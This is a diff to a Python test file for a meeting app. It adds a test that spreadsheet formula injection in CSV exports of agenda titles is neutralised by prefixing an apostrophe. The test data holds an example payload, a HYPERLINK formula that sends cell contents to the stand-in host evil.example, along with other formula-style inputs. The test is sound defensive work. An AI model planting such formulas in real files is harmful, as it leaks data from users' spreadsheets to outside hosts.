@@ -27,7 +27,7 @@ from meetings.actions import (
     do_publish_meeting,
     do_start_meeting,
 )
-from meetings.models import Meeting
+from meetings.models import AgendaItem, Meeting
 from reports.measurement import selectors as measurement
 from reports.measurement import views as dashboard_views
 from reports.models import ReportSettings
@@ -257,6 +257,24 @@ def test_the_meeting_csv_files(hanoi: World, clock: Clock) -> None:
     by_name = {row[0]: row for row in reading[1:]}
     assert by_name[hanoi.member.full_name][2:] == ["3", "1", "33.3"]
     assert by_name[hanoi.chair.full_name][2:] == ["2", "0", "0.0"]
+
+
+def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(hanoi: World, clock: Clock) -> None:
+    """The attack: a title typed as ``=HYPERLINK(…)`` reaches the secretariat's
+    spreadsheet as a live formula. Every cell that starts like one is written
+    behind an apostrophe; numbers, negative ones too, stay numbers."""
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', "+1+1", "-2+3", "@SUM(A1)", "\tx"]
+    with tenant_context(hanoi.tenant):
+        for item, title in zip(hanoi.items, hostile, strict=False):
+            AgendaItem.objects.filter(pk=item.pk).update(title=title)
+    meeting = held_session(hanoi, clock)
+    items = rows_of(hanoi.client(hanoi.secretary).get(f"{URL}meetings/{meeting.pk}/items.csv"))
+    titles = [row[1] for row in items[1:]]
+    assert titles == ["'" + t for t in hostile[: len(titles)]]
+    assert items[1][0] == "1"
+    from reports.measurement.views import spreadsheet_cell
+
+    assert [spreadsheet_cell(v) for v in (-5, -1.5, None, "Hà Nội", "-")] == [-5, -1.5, "", "Hà Nội", "'-"]
 
 
 # --- a fixed number of queries -------------------------------------------------------------
